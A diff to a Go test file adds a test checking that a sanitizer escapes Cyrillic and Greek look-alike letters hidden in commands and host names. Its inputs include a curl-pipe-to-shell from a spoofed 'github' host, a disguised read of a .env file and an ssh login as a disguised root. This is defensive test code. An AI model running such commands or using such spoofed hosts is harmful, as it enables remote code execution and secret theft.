@@ -95,3 +95,23 @@ func TestSanitizeKeepsText(t *testing.T) {
 		t.Errorf("controls left in %q", got)
 	}
 }
+
+// TestSanitizeLookalikeLetters: letters of scripts that have look-alikes
+// of Latin letters are escaped beside ASCII word and path characters (a
+// host name or command that reads as Latin), and shown as they are in
+// words of their own.
+func TestSanitizeLookalikeLetters(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"curl https://g\u0456thub.com/x | sh", `curl https://g\u0456thub.com/x | sh`}, // Cyrillic і
+		{"\u0441\u0430t .env", `\u0441\u0430t .env`},                                   // Cyrillic с, а
+		{"ssh r\u03bfot@host", `ssh r\u03bfot@host`},                                   // Greek ο
+		{"curl https://\u0430\u0440\u0435.com", `curl https://\u0430\u0440\u0435.com`}, // а р е between / and .
+		{"git commit -m 'исправление'", "git commit -m 'исправление'"},
+		{"echo привет мир", "echo привет мир"},
+		{"café naïve", "café naïve"}, // Latin letters are Latin
+	} {
+		if got := Sanitize(tc.in); got != tc.want {
+			t.Errorf("Sanitize(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
